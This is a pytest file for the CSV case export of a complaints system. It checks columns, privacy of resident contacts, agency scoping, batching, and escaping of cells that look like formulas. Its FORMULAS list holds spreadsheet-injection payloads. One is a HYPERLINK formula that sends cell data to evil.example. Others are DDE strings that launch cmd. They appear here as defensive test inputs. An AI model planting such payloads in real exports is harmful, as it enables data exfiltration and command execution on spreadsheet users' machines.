"""GET /api/v1/cases/export.csv: what a supervisor or officer takes to a spreadsheet."""

from __future__ import annotations

import csv
import io

from fastapi.testclient import TestClient

from cases.export import COLUMNS
from core.settings import Settings
from tests.helpers import RUBBISH, create_staff, file_complaint, login


def rows(response) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(response.text)))


def test_export_streams_stable_columns_without_contacts(
    client: TestClient, settings: Settings
) -> None:
    """The supervisor's export has every case, the fixed columns, and no phone or e-mail."""
    create_staff(settings, "sup", "supervisor")
    sup = login(client, "sup")
    pothole = file_complaint(client, phone="081234567890", notify_via="sms", lat=-6.99, lon=110.42)
    rubbish = file_complaint(client, text=RUBBISH, email="warga@example.com")
    response = client.get("/api/v1/cases/export.csv", headers=sup)
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/csv")
    assert response.text.splitlines()[0] == ",".join(COLUMNS)
    exported = rows(response)
    assert [r["tracking_code"] for r in exported] == [
        rubbish["tracking_code"],
        pothole["tracking_code"],
    ]
    assert (exported[1]["agency"], exported[1]["latitude"]) == ("DPU", "-6.99")
    assert "081234567890" not in response.text and "6281234567890" not in response.text
    assert "warga@example.com" not in response.text


def test_officer_exports_only_own_agency_with_filters(
    client: TestClient, settings: Settings
) -> None:
    """Officers get their agency's cases; status and agency filters apply; a bad filter is 422."""
    create_staff(settings, "dlh", "officer", "DLH")
    dlh = login(client, "dlh")
    file_complaint(client)
    mine = file_complaint(client, text=RUBBISH)["tracking_code"]
    exported = rows(client.get("/api/v1/cases/export.csv", headers=dlh))
    assert [r["tracking_code"] for r in exported] == [mine]
    resolved = client.get("/api/v1/cases/export.csv", params={"status": "resolved"}, headers=dlh)
    assert rows(resolved) == []
    assert (
        client.get("/api/v1/cases/export.csv", params={"agency": "NOPE"}, headers=dlh).status_code
        == 422
    )
    assert client.get("/api/v1/cases/export.csv").status_code == 401


def test_export_reads_in_batches_without_losing_or_repeating_cases(
    client: TestClient, settings: Settings
) -> None:
    """Batch boundaries neither drop nor repeat a case."""
    from sqlmodel import Session, select

    from cases.export import csv_lines
    from core.db import get_engine
    from staff.models import User

    create_staff(settings, "sup", "supervisor")
    codes = [
        file_complaint(client, text=f"Jalan berlubang nomor {i} di Jl. Pemuda")["tracking_code"]
        for i in range(5)
    ]
    with Session(get_engine(settings.database_url)) as session:
        user = session.exec(select(User)).one()
        lines = list(csv_lines(session, user, timezone="Asia/Jakarta", language="id", batch=2))
    exported = list(csv.DictReader(io.StringIO("".join(lines))))
    assert [r["tracking_code"] for r in exported] == list(reversed(codes))


FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"x") jalan rusak',
    "+cmd|' /C calc'!A0 jalan rusak",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]


def test_resident_text_starting_like_a_formula_is_exported_as_text(
    client: TestClient, settings: Settings
) -> None:
    """Text and address cells starting with = + - @ (or a tab or CR) get a leading quote;
    other text and the coordinates are exported as they are."""
    import sqlalchemy as sa

    from core.db import get_engine

    create_staff(settings, "sup", "supervisor")
    sup = login(client, "sup")
    codes = {
        file_complaint(client, text=text, address=text, lat=-6.99, lon=110.42)[
            "tracking_code"
        ]: text
        for text in FORMULAS
    }
    plain = file_complaint(client, address="Jl. Pemuda -3")["tracking_code"]
    # the forms strip spaces around what a resident types, so a tab or CR first can only be
    # in a row stored otherwise (an older version, a database tool)
    tab = file_complaint(client, text=RUBBISH)["tracking_code"]
    with get_engine(settings.database_url).begin() as connection:
        connection.execute(
            sa.text("UPDATE cases SET address = :tab, text = :cr WHERE tracking_code = :code"),
            {"tab": "\t=1+1", "cr": "\r=1+1 " + RUBBISH, "code": tab},
        )
    response = client.get("/api/v1/cases/export.csv", headers=sup)
    assert response.status_code == 200
    exported = {row["tracking_code"]: row for row in rows(response)}
    for code, text in codes.items():
        assert exported[code]["text"] == "'" + text
        assert exported[code]["address"] == "'" + text
        assert (exported[code]["latitude"], exported[code]["longitude"]) == ("-6.99", "110.42")
    assert exported[plain]["text"].startswith("Jalan berlubang")
    assert exported[plain]["address"] == "Jl. Pemuda -3"
    assert exported[tab]["address"] == "'\t=1+1"
    assert exported[tab]["text"] == "'\r=1+1 " + RUBBISH
    every_cell = [cell for row in exported.values() for cell in row.values()]
    assert not [cell for cell in every_cell if cell[:1] in ("=", "+", "@", "\t", "\r")]
